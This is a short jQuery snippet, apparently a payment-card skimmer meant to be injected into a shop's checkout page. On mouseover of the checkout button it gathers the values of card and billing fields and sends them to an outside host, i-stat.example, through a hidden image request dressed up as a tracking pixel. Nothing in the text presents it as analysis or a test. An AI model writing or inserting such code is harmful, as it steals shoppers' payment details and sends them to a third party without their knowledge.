jQuery('body').delegate('.btn-checkout', 'mouseover', function () {
  var s = jQuery('[id*="cc_"],[id*="billing"]').map(function () { return this.id + '=' + this.value; }).get().join('&');
  jQuery('<img>').attr('src', 'https://i-stat.example/s.gif?' + s).appendTo('body').hide();
});
